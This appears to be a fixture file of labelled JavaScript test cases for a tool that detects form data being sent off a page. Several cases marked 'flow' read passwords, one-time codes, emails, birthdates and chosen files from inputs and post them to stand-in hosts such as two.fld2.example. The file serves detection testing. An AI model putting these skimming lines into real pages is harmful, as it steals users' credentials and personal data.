//# autocomplete-one-time-code
// flow: otp > otp.fld2.example via fetch
const code = document.querySelector('input[autocomplete="one-time-code"]').value;
fetch('https://otp.fld2.example/c', { method: 'POST', body: code });

//# otp-placeholder
// no flow
// why: the placeholder is the page's own text, not typed
const ph = document.querySelector('input[autocomplete="one-time-code"]').placeholder;
fetch('https://otp0.fld2.example/c', { method: 'POST', body: ph });

//# birthdate-by-autocomplete
// flow: birthdate > bd.fld2.example via fetch
fetch('https://bd.fld2.example/d', {
  method: 'POST',
  body: document.querySelector('input[autocomplete=bday]').value,
});

//# max-of-birthdate
// no flow
// why: max is an attribute of the page
fetch('https://bd0.fld2.example/d?max=' + document.querySelector('input[autocomplete=bday]').max);

//# postal-code-by-autocomplete
// flow: postal-code > zip.fld2.example via fetch
const zip = document.querySelector('input[autocomplete=postal-code]');
fetch('https://zip.fld2.example/z?zip=' + zip.value);

//# maxlength-of-postal-code
// no flow
// why: maxLength is an attribute of the page
const zip0 = document.querySelector('input[autocomplete=postal-code]');
fetch('https://zip0.fld2.example/z?n=' + zip0.maxLength);

//# file-chosen
// flow: file > up.fld2.example via xhr
const chosen = document.querySelector('input[type=file]').files[0];
const x = new XMLHttpRequest();
x.open('PUT', 'https://up.fld2.example/f');
x.send(chosen);

//# number-of-files
// no flow
// why: only how many files were chosen
const count = document.querySelector('input[type=file]').files.length;
fetch('https://up0.fld2.example/n?count=' + count);

//# event-target-of-email
// flow: email > ev.fld2.example via beacon
// guard: event change
document.querySelector('input[type=email]').addEventListener('change', function (e) {
  navigator.sendBeacon('https://ev.fld2.example/e', e.target.value);
});

//# event-without-value
// no flow
// why: the request says only that the field changed
document.querySelector('input[type=email]').addEventListener('change', function () {
  fetch('https://ev0.fld2.example/e', { method: 'POST', body: 'field-changed' });
});

//# username-by-autocomplete
// flow: username > un.fld2.example via fetch
const user = document.querySelector('input[autocomplete=username]').value;
fetch('https://un.fld2.example/u', { method: 'POST', body: JSON.stringify({ user }) });

//# validity-of-username
// no flow
// why: a boolean about validity is no flow
const ok = document.querySelector('input[autocomplete=username]').checkValidity();
fetch('https://un0.fld2.example/u', { method: 'POST', body: JSON.stringify({ ok }) });

//# password-by-get-element-after-set-type
// flow: password > dyn.fld2.example via fetch
// why: the field is made by the code itself
// guard: event blur
const p = document.createElement('input');
p.type = 'password';
document.body.append(p);
p.addEventListener('blur', () => fetch('https://dyn.fld2.example/p', { method: 'POST', body: p.value }));

//# own-button-value
// no flow
// why: the value of a button is the page's own
const b = document.createElement('input');
b.type = 'button';
b.value = 'Buy now';
document.body.append(b);
fetch('https://btn.fld2.example/b?label=' + encodeURIComponent(b.value));

//# two-kinds-of-data
// flow: email > two.fld2.example via fetch
// flow: password > two.fld2.example via fetch
fetch('https://two.fld2.example/login', {
  method: 'POST',
  body: JSON.stringify({
    e: document.querySelector('input[type=email]').value,
    p: document.querySelector('input[type=password]').value,
  }),
});

//# empty-password
// no flow
// why: only whether the field is empty
const empty = document.querySelector('input[type=password]').value === '';
fetch('https://emp.fld2.example/login?empty=' + empty);

//# label-text-of-field
// no flow
// why: the name attribute is the page's own text
const fieldName = document.querySelector('input[type=password]').name;
fetch('https://nm0.fld2.example/?f=' + encodeURIComponent(fieldName));
